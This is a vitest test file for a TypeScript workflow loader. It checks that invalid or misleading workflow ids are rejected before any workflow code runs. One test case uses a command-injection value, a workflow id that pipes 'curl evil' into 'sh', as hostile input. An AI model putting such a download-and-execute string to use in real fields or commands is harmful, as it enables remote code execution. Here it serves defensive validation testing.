import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import type { Known } from '@phasegate/core';
import { expect, onTestFinished, test } from 'vitest';
import { OPEN_GATE } from './fixtures/openGate.ts';
import { createFunctions } from './functionHost.ts';
import { createTypeScriptLoader } from './typeScriptLoader.ts';

test.each([
  ['half of a character', 'x.workflow.ts', String.raw`'nice\ud800'`, 'x'],
  ['a line of the shell', 'x.workflow.ts', "'x; curl evil | sh #'", 'x'],
  ['what the engine calls other things it accepts', 'x.workflow.ts', "'server:github'", 'x'],
  ['a file called by no id', 'server:x; y.workflow.ts', 'String("a")', 'server-x-y'],
  ['a file called by signs alone', ';.workflow.ts', 'String("a")', 'workflow'],
])('an id that no workflow can have names nothing before its code is run: %s', async (_, path, type, id) => {
  const { peek, load } = placed(path, workflowText('throw new Error("it was run");', type));

  const problem = {
    line: 3,
    column: 16,
    code: 'bad_id',
    message: expect.stringContaining('letters, digits'),
  };
  expect(await peek()).toMatchObject({ id, problems: [problem] });
  expect(await load()).toMatchObject({ workflow: null, problems: [problem] });
});

test('code that makes another id than is written is not loaded: by its id a human accepts it', async () => {
  const { load } = placed('x.workflow.ts', workflowText('', "'good', ...{ type: 'other' }"));

  expect(await load()).toMatchObject({
    workflow: null,
    problems: [{ code: 'bad_id', message: expect.stringContaining('the code makes it `other`') }],
  });
});

function placed(path: string, text: string) {
  const root = mkdtempSync(join(tmpdir(), 'phasegate-ids-'));
  const functions = createFunctions({ root, gate: OPEN_GATE });
  onTestFinished(async () => {
    await functions.close();
    rmSync(root, { recursive: true });
  });
  writeFileSync(join(root, path), text);
  const loader = createTypeScriptLoader({ known: NOTHING, functions });
  return { peek: () => loader.peek({ root, path }), load: () => loader.load({ root, path }) };
}

const NOTHING: Known = { checks: {} };

function workflowText(before: string, type: string): string {
  return `import { defineWorkflow } from '@phasegate/sdk';
${before}
export default defineWorkflow({ type: ${type}, steps: [{ name: 'a', next: null }] });`;
}
